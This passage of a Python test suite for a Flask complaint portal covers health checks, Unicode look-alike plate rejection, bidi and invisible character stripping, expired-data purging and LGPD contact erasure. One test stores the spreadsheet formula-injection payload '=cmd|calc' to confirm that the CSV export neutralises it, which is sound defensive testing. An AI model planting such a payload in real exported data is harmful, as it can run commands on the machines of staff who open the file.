    big = "x" * 20000  # a value that needs new pages
    import portal.health as health

    monkeypatch.setattr(health, "utcnow", lambda: big)
    response = app.test_client().get("/saude")
    assert response.status_code == 503 and "full" in response.get_json()["checks"]["gravacao"]["erro"]


def test_health_with_intended_read_only_mode_is_ok(tmp_path, index_dir):
    create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "DATABASE_READONLY": True})
    response = app.test_client().get("/saude")
    assert response.status_code == 200 and response.get_json()["checks"]["gravacao"] == {"ok": True, "somente_leitura": True}


# -- Info: look-alike letters, invisible characters, expired conversations ------------------------------


@pytest.mark.parametrize("plate", ["ıBC1234", "ſBC1234", "ＡＢＣ１２３４", "ABC１234", "ﬀA1234", "KGT2Ｅ47", "KGT2E4\u0667"])
def test_look_alike_letters_are_not_plates(app, plate):
    from knowledge.plates import InvalidPlate, normalize

    with pytest.raises(InvalidPlate):
        normalize(plate)
    assert app.test_client().get("/api/v1/veiculos/" + quote(plate)).status_code == 400
    body = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["porta_aberta"], "placa": plate}
    assert app.test_client().post("/api/v1/denuncias", json=body).get_json()["field"] == "placa"


BIDI = "pagar \u202eR$ 10\u202c a mais\u200b\u2066x\u2069\ufeff"


def test_invisible_and_bidi_characters_never_reach_staff(app):
    client = app.test_client()
    body = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["outro"], "jurisdicao": "pe", "relato": BIDI, "origem": "Reci\u200dfe",
            "contato": {"nome": "Ana\u202e Lima"}, "consentimento": True}
    assert client.post("/api/v1/denuncias", json=body).status_code == 201
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    assert db.execute("SELECT relato, origem FROM complaints").fetchone() == ("pagar R$ 10 a maisx", "Recife")
    assert db.execute("SELECT nome FROM complaint_contacts").fetchone()[0] == "Ana Lima"
    # Rows stored before the fix are cleaned on the way out too.
    db.execute("UPDATE complaints SET relato = ?", ["=cmd\u202e|calc"])
    _staff(app)
    client.post("/admin/entrar", data={"usuario": "fiscal\u202e", "senha": "errada"})
    _login(client)
    pages = [client.get(u).get_data(as_text=True) for u in ("/admin/", "/admin/denuncias/1?contato=1", "/admin/auditoria", "/admin/exportar.csv")]
    for text in pages:
        assert not any(ch in text for ch in "\u202e\u202c\u200b\u200d\u2066\u2069\ufeff"), text[:200]
    assert "=cmd|calc" in pages[1] and "'=cmd|calc" in pages[3]


def test_expired_conversations_are_deleted_when_read(app):
    client = app.test_client()
    first = client.post("/api/v1/assistente", json={"mensagem": "o que é fretamento?"}).get_json()["conversa"]
    other = app.test_client().post("/api/v1/assistente", json={"mensagem": "oi"}).get_json()["conversa"]
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    past = (datetime.now(timezone.utc) - timedelta(minutes=1)).replace(microsecond=0).isoformat()
    db.execute("UPDATE conversations SET expira_em = ?", [past])
    import portal.storage.conversations as conversations

    conversations._last_purge["at"] = datetime.now(timezone.utc)  # the per-minute sweep has just run
    client.set_cookie("conversa", first)
    assert client.get("/assistente").status_code == 200
    assert db.execute("SELECT id FROM conversations").fetchall() == [(other,)]
    conversations._last_purge["at"] = datetime.min.replace(tzinfo=timezone.utc)
    assert app.test_client().get("/assistente").status_code == 200
    assert db.execute("SELECT COUNT(*) FROM conversations").fetchone()[0] == 0


def test_flask_purge_deletes_everything_expired(app):
    client = app.test_client()
    client.post("/api/v1/assistente", json={"mensagem": "oi"})
    client.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"})
    _staff(app)
    _login(client)
    client.post("/admin/entrar", data={"usuario": "ninguem", "senha": "x"})
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    old = (datetime.now(timezone.utc) - timedelta(days=2)).replace(microsecond=0).isoformat()
    for sql in ("UPDATE conversations SET expira_em = ?", "UPDATE staff_sessions SET criada_em = ?", "UPDATE login_failures SET atualizado_em = ?",
                "UPDATE complaints SET criada_em = ?"):
        db.execute(sql, [old])
    result = app.test_cli_runner().invoke(args=["purge"])
    assert result.exit_code == 0
    assert result.output.strip() == "Apagados: 1 conversas, 1 sessões, 1 tentativas de login, 1 chaves de idempotência."
    assert db.execute("SELECT COUNT(*) FROM complaints").fetchone()[0] == 1


# -- LGPD: a complainant asks for their contact details to be erased ------------------------------------

ERASABLE = {"nome": "Joana Apagável", "email": "joana.apagavel@example.com", "telefone": "(81) 98888-7777"}


def test_staff_erase_a_complainants_contact_and_the_log_names_no_one(tmp_path, index_dir, store_config):
    """On SQLite and on PostgreSQL (the shared store of several nodes)."""
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "WTF_CSRF_ENABLED": False, **store_config})
    db = open_store(app)
    staff_store.create_user(db, "fiscal", PASSWORD)
    client = app.test_client()
    created = client.post("/api/v1/denuncias", json={"data_ocorrencia": "2026-11-20", "ocorrencias": ["porta_aberta"], "jurisdicao": "pe",
                                                     "contato": ERASABLE, "consentimento": True}).get_json()
    _login(client)
    complaint_id = db.execute("SELECT id FROM complaints WHERE protocolo = ?", [created["protocolo"]]).fetchone()[0]
    page = client.get(f"/admin/denuncias/{complaint_id}").get_data(as_text=True)
    assert f'action="/admin/denuncias/{complaint_id}/apagar-contato"' in page
    # Without the confirmation nothing is erased.
    assert client.post(f"/admin/denuncias/{complaint_id}/apagar-contato").status_code == 400
    assert ERASABLE["email"] in client.get(f"/admin/denuncias/{complaint_id}?contato=1").get_data(as_text=True)

    response = client.post(f"/admin/denuncias/{complaint_id}/apagar-contato", data={"confirma": "sim"})
    # Back to the complaint, with the confirmation of what was saved (#31).
    assert response.status_code == 303 and response.headers["Location"].split("?")[0] == f"/admin/denuncias/{complaint_id}"
    assert db.execute("SELECT COUNT(*) FROM complaint_contacts").fetchone()[0] == 0
    assert db.execute("SELECT tem_contato FROM complaints WHERE id = ?", [complaint_id]).fetchone()[0] == 0
    shown = client.get(f"/admin/denuncias/{complaint_id}?contato=1").get_data(as_text=True)
    assert ERASABLE["email"] not in shown and "a pedido do denunciante (LGPD); a denúncia segue anônima." in shown
    # The staff log says who erased which complaint's contact, and nothing of the person.
    audit = db.execute("SELECT usuario, acao, alvo, detalhes FROM audit_log WHERE acao = 'apagou_contato'").fetchall()
    assert [tuple(row) for row in audit] == [("fiscal", "apagou_contato", created["protocolo"], "a pedido do denunciante (LGPD)")]
    close_store(db)
    if not store_config:
        # Gone from the SQLite file itself, not only from the table (secure_delete, WAL truncated).
        raw = b"".join(p.read_bytes() for p in Path(app.config["DATA_DIR"]).glob("portal.db*"))
        for value in ERASABLE.values():
            assert value.encode() not in raw, value
    # Erasing again: nothing to erase; the complaint itself is still followed by its protocol.
    assert client.post(f"/admin/denuncias/{complaint_id}/apagar-contato", data={"confirma": "sim"}).status_code == 409
    assert client.get(f"/api/v1/denuncias/{created['protocolo']}").status_code == 200
